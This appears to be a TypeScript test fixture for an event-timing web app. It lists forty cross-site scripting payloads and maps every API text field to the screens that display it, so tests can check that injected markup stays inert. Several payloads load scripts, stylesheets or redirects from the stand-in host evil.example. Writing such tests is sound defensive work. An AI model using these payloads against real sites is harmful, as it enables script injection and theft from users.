/**
 * Forty ways to get a script run, each short enough for the shortest field that is shown whole (a group: 60 characters) and
 * on one line. Every one of them sets `__xss`, or makes the browser load something from elsewhere.
 */
export const PAYLOADS: readonly string[] = [
  '<script>__xss=1</script>',
  '<ScRiPt>__xss=2</sCrIpT>',
  '</script><script>__xss=3</script>',
  '</title><script>__xss=4</script>',
  '</textarea><script>__xss=5</script>',
  '<!--><script>__xss=6</script>-->',
  ']]><script>__xss=7</script>',
  '<scr<script>ipt>__xss=8</scr</script>ipt>',
  '<script src=//evil.example/9.js></script>',
  '<script src=/api/openapi.json#10></script>',
  '<img src=x onerror=__xss=11>',
  '<img src=x:12 onerror="__xss=12">',
  '<img/src=x/onerror=__xss=13>',
  '<svg onload=__xss=14>',
  '<svg><script>__xss=15</script></svg>',
  '<svg><animate onbegin=__xss=16 attributeName=x dur=1s>',
  '<math><mtext><img src=x onerror=__xss=17></mtext></math>',
  '<details open ontoggle=__xss=18>',
  '<input autofocus onfocus=__xss=19>',
  '<video><source onerror=__xss=20></video>',
  '<audio src=x onerror=__xss=21>',
  '<body onload=__xss=22>',
  '<marquee onstart=__xss=23>',
  '<iframe srcdoc="<script>top.__xss=24</script>"></iframe>',
  '<iframe src=javascript:top.__xss=25></iframe>',
  '<object data=javascript:__xss=26></object>',
  '<embed src=//evil.example/27.swf>',
  '<a href=javascript:__xss=28>28</a>',
  '<form action=javascript:__xss=29><button>29</button></form>',
  '<base href=//evil.example/30/>',
  '<meta http-equiv=refresh content=0;url=//evil.example/31>',
  '<link rel=stylesheet href=//evil.example/32.css>',
  '<style>@import"//evil.example/33.css";</style>',
  '" autofocus onfocus=__xss=34 x="',
  "' onmouseover=__xss=35 style='position:fixed;inset:0' x='",
  'javascript:__xss=36',
  'data:text/html,<script>top.__xss=37</script>',
  '{{constructor.constructor("__xss=38")()}}${__xss=38}',
  '&lt;img src=x onerror=__xss=39&gt; %3Cscript%3E39',
  String.raw`\u003cscript\u003e__xss=40\u003c/script\u003e\x3c`,
];

/**
 * One of each way out of a text: an element, the end of an element, an attribute, an address, an escaped sign. For a
 * field of which a page shows one text at a time: a page that keeps these as text parses none of the forty.
 */
export const KINDS_AT = [10, 3, 33, 35, 38];
export const KINDS = KINDS_AT.map((index) => PAYLOADS[index]!);

/** As much of a payload as an address may hold, in front of the @. */
export const payloadAddress = (number: number): string => `'-__xss-'+${number}@example.org`;

/** The reasons of a status, a penalty and a moved time, told apart from the names that stand beside them. */
export const statusReason = (payload: string): string => `Status ${payload}`;
export const penaltyReason = (payload: string): string => `Penalty ${payload}`;
export const shiftReason = (payload: string): string => `Moved ${payload}`;

/** A bib has room for sixteen characters. */
export const bibOf = (payload: string): string => payload.slice(0, 16);

/** The same list from another place on, so that two fields of one row do not hold the same. */
export const shifted = (index: number, by: number): string => PAYLOADS[(index + by) % PAYLOADS.length]!;

/**
 * Every text field of the protocol: the screens on which its payloads are searched for, or why there is nothing to
 * search for. `payloads-fields.ts` lists the fields from the schemas; a missing field fails.
 */
export const FIELDS: Readonly<Record<string, string>> = {
  '/api/account/sign-up username': 'shown: homepage, account, people, history',
  '/api/account/sign-up email': 'shown: homepage, account, people; the schema leaves little room',
  '/api/account/sign-up password': 'never sent back',
  '/api/account/login email': 'never sent back',
  '/api/account/login password': 'never sent back',
  '/api/account/password-reset email': 'never sent back',
  '/api/account/password-reset/confirm token': 'never sent back',
  '/api/account/password-reset/confirm password': 'never sent back',
  '/api/account/verification/confirm token': 'never sent back',
  '/api/account/verification/confirm password': 'never sent back',
  '/api/account/disown token': 'never sent back',
  '/api/mail/stop token': 'only compared',
  '/api/account/password currentPassword': 'never sent back',
  '/api/account/password newPassword': 'never sent back',
  '/api/account/username username': 'shown: where the one of the sign-up is, by the same components',
  '/api/account/delete password': 'never sent back',
  '/api/commands userId': 'only compared',
  '/api/createPaymentIntent data zone': 'only a time zone is taken',
  '/api/sandbox/confirm clientSecret': 'only compared',
  '/api/sandbox/confirm card number': 'never sent back',
  '/api/sandbox/confirm card expiry': 'never sent back',
  '/api/sandbox/confirm card cvc': 'never sent back',
  '/api/sandbox/authenticate clientSecret': 'only compared',
  '/api/account/privacy-zones zones[] name': 'shown: the privacy zones',
  '/api/runs/:runId details name': 'shown: list of runs, run, title of its dialogs',
  '/api/runs/:runId details sources[] channels[]': 'only compared',
  '/api/runs/:runId details sources[] device': 'shown: run',
  '/api/runs/:runId details sources[] fileName': 'shown: run',
  '/api/runs/:runId details sources[] laps[] name': 'shown: run',
  '/api/runs/:runId details sources[] warnings[] code': 'only compared',
  '/api/runs/:runId details sources[] warnings[] detail': 'shown: run',
  '/api/runs/:runId details videos[] chapters[] fileName': 'shown: run',
  '/api/runs/:runId details videos[] chapters[] fingerprint': 'only compared',
  '/api/runs/:runId details videos[] uploadIds[]': 'only compared',
  '/api/runs/:runId/shares email': 'shown: sharing; the schema leaves little room',
  '/api/runs/:runId/shares/remove email': 'only compared',
  '/api/account/tokens/new name': 'shown: account',
  '/api/account/webhooks/new url': 'shown: account, as addresses are written; what is no address is refused',
  '/api/events/:eventId/letterhead line': 'shown: certificates',
  '/api/events/:eventId/embed origins[]': 'shown: print and export; only an origin is taken',
  '/api/events/:eventId/followers by email': 'never sent back',
  '/api/followers/confirm token': 'only compared',
  '/api/followers/stop token': 'only compared',
  '/api/events/:eventId/screens name': 'shown: screens',
  '/api/runs/:runId details sources[] format': 'shown: run, where it is one that is known',
  '/api/series/:seriesId document name': 'shown: list of series, series, public link',
  'format.set format categories[] name':
    'shown: both boards, first HTML, splits, categories, other sites, paper, exports',
  'format.set format categories[] group': 'shown: categories',
  'format.set format categories[] class': 'shown: categories',
  'format.set format teams quota class': 'shown: teams, both boards',
  'format.set format course name':
    'shown: both boards, first HTML, course, handicap, compare, coach, racer, public link, paper, exports',
  'format.set format conditions':
    'shown: both boards, first HTML, course, compare, coach, racer, public link, paper, exports',
  'handicaps.set given[] handicap source': 'shown: handicap, detailed CSV',
  '/api/handicap-tables/:tableId name': 'shown: handicap, cut to its room',
  '/api/handicap-tables/:tableId version': 'shown: handicap, cut to its room',
  '/api/handicap-tables/:tableId rows[][]': 'only compared',
  'official.set note': 'shown: both boards, first HTML, official, both histories, paper, exports',
  'entries.add racers[] details class': 'shown: details, categories, first HTML, JSON',
  'entries.add racers[] details club': 'shown: details, categories, both boards, first HTML, paper, exports',
  'entries.add racers[] details team': 'shown: details, categories, teams, both boards, first HTML, paper, exports',
  'entries.add racers[] details category': 'shown: details, board, series, public link',
  'details.set given[] details class': 'shown: details',
  'details.set given[] details club': 'shown: details',
  'details.set given[] details team': 'shown: details',
  'details.set given[] details category': 'shown: details, board',
  'racer.create details class': 'shown: library, picker, details of an event that takes the racer',
  'racer.create details club': 'shown: library, picker, details of an event that takes the racer',
  'racer.create details team': 'shown: library, picker, details of an event that takes the racer',
  'racer.create details category': 'shown: details and board of an event that takes the racer',
  'racer.describe details class': 'shown: library, picker, details of an event that takes the racer',
  'racer.describe details club': 'shown: library, picker, details of an event that takes the racer',
  'racer.describe details team': 'shown: library, picker, details of an event that takes the racer',
  'racer.describe details category': 'shown: details and board of an event that takes the racer',
  'event.create name':
    'shown: lists of events, picker, shared group, credit history, undo, series, racer, compare, coach',
  'event.create timeZone': 'only a zone that exists is taken',
  'entry.rename name': 'shown: board, racer’s sheet, corrections, history',
  'event.rename name': 'shown: board, viewer’s board, shared group, history, title, televisions, other sites',
  'entries.add racers[] name':
    'shown: every part of both boards and screen beside them, details, history, removed racers, first HTML, televisions, other sites, series, coach, paper, exports',
  'entries.add racers[] groups[]': 'shown: details, statuses, moved times, categories, announcer, paper, exports',
  'entries.add racers[] bib': 'shown: both boards, televisions, other sites, paper, exports',
  'bibs.set bibs[] bib': 'shown: both boards, start list, paper',
  'status.set reason': 'shown: history',
  'statuses.set reason': 'shown: statuses',
  'taps.shift reason': 'shown: history, moved times',
  'race.configure settings preset': 'only compared',
  'race.configure settings points[] name':
    'shown: board, details, splits, finish line, still out, timekeepers, lists of lines, both histories',
  'helper.name name': 'shown: history, timekeepers, moved times',
  'adjustment.add reason': 'shown: history',
  'admin.invite language': 'only compared',
  'admin.invite email': 'shown: people, history; the schema leaves little room',
  'admin.remove userId': 'only compared',
  'admin.uninvite email': 'only compared',
  'owner.change userId': 'only compared',
  'racer.create name': 'shown: library, picker, credit history',
  'racer.create groups[]': 'shown: library, its filter',
  'racer.rename name': 'shown: library, picker, credit history',
  'racer.tag group': 'shown: library, its filter',
  'racer.untag group': 'only compared',
  'live follow-event key': 'only compared',
  'live follow-group groupId': 'shown nowhere: an unknown group has no name',
  'live unfollow topic': 'only compared',
};
